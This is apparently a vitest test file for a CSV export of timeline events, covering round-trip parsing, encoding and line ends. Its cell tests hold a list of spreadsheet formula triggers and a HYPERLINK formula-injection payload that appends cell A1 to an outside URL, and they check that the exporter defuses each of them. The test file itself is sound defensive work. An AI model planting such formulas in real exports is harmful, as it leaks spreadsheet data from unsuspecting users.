import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, csvCell, toCsv } from '../../src/exchange/csv.ts';
import { dataset, datasetOf, eventsOf } from '../fixtures.ts';
import { selected, shipped } from './selected.fixture.ts';

type Row = Record<(typeof CSV_COLUMNS)[number], string>;

/** What another program reads. */
function read(text: string): Row[] {
  const { data, errors } = Papa.parse<Row>(text, { header: true, skipEmptyLines: true });
  expect(errors).toEqual([]);
  return data;
}

/** Without the apostrophe that defuses a formula. */
const plain = (cell: string) => cell.replace(/^'/, '');

describe('events as CSV', () => {
  it('are read back by another program, one row an event', () => {
    const all = selected(shipped());
    const rows = read(toCsv(all).text);
    const events = eventsOf(all.dataset);
    expect(rows).toHaveLength(events.length);
    for (const [i, row] of rows.entries()) {
      const event = events[i]!;
      expect(Object.keys(row)).toEqual([...CSV_COLUMNS]);
      expect(row.id).toBe(event.id);
      expect(plain(row.title)).toBe(event.title);
      expect(plain(row.date)).toBe(event.date);
      expect(plain(row.note)).toBe(event.note ?? '');
      expect(row['dating words']).toBe(event.dating.words ?? '');
      for (const { exact } of event.excerpts) expect(row.quotes).toContain(`“${exact}”`);
      expect(row.link).toBe(`https://example.org/t/?event=${event.id}`);
    }
  });

  it('have their days, articles, actors, place, quotes and relations in words', () => {
    const rows = read(toCsv(selected()).text);
    const [talks, promise, strike, closure] = ['talks', 'promise', 'strike', 'closure'].map((id) =>
      rows.find((row) => row.id === id),
    );
    expect(talks).toMatchObject({
      'date in words': '6 May 2013',
      'first day': '2013-05-06',
      'last day': '2013-05-06',
      actors: 'Ada Berg (host)\nCarl Dorn',
      place: 'Port Esker, Arland',
      articles: 'Gazette\nLakeland Review\nLake Almanac',
    });
    expect(promise).toMatchObject({
      quotes:
        '““We have agreed on the ferry”” (Gazette, attributes; speaker: Ada Berg; note: Said on the quay.)',
      related:
        'part-of: Berg meets Dorn in Port Esker (talks)\nresponds-to: The ferry is taken out of service (closure)',
    });
    expect(strike).toMatchObject({ 'first day': '2013-05-19', 'last day': '2013-06-05' });
    expect(closure).toMatchObject({ 'first day': '1998-01-01', 'last day': '' });
  });

  it('have CRLF line ends and a mark that makes spreadsheets read UTF-8', () => {
    const { text } = toCsv(selected());
    expect(text.startsWith('\ufeffid,title,')).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(read(toCsv(selected(dataset(), [])).text)).toEqual([]);
  });

  it('have years before 1', () => {
    const rows = read(toCsv(selected(datasetOf(['-0043-03-15']))).text);
    expect(rows[0]).toMatchObject({ date: "'-0043-03-15", 'first day': "'-000043-03-15" });
  });
});

describe('a cell', () => {
  const dangers = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', ' =1', '＝1', '＋1', '－1', '＠A'];

  it.each(dangers)('%j is no formula to a spreadsheet', (danger) => {
    const [[read]] = Papa.parse<[string]>(csvCell(danger), { delimiter: ',', newline: '\r\n' }).data as [
      [string],
    ];
    expect(read).toBe(`'${danger}`);
  });

  it('is no formula wherever it comes from', () => {
    const evil = '=HYPERLINK("https://example.org/?"&A1,"x")';
    const of = dataset((chronology) => ({
      events: chronology.events.map((event) => ({
        ...event,
        title: evil,
        note: evil,
        dating: { ...event.dating, words: evil, note: evil },
        excerpts: [],
        actors: [{ actor: 'berg' }],
      })),
      actors: chronology.actors.map((actor) => (actor.id === 'berg' ? { ...actor, name: evil } : actor)),
      places: chronology.places.map((place) => ({ ...place, name: evil })),
    }));
    for (const row of read(toCsv(selected(of)).text)) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^\s*[=+@-]/);
      expect(row.title).toBe(`'${evil}`);
    }
  });

  it.each([
    'plain',
    'with, comma',
    'with "quotes"',
    'two\nlines',
    'two\r\nlines',
    ' spaces ',
    '',
    '2013-05',
    'a=b',
    '“-”',
  ])('%j is read back as it is', (text) => {
    const line = `${csvCell(text)},end`;
    expect(Papa.parse(line, { delimiter: ',', newline: '\r\n' }).data).toEqual([[text, 'end']]);
  });
});
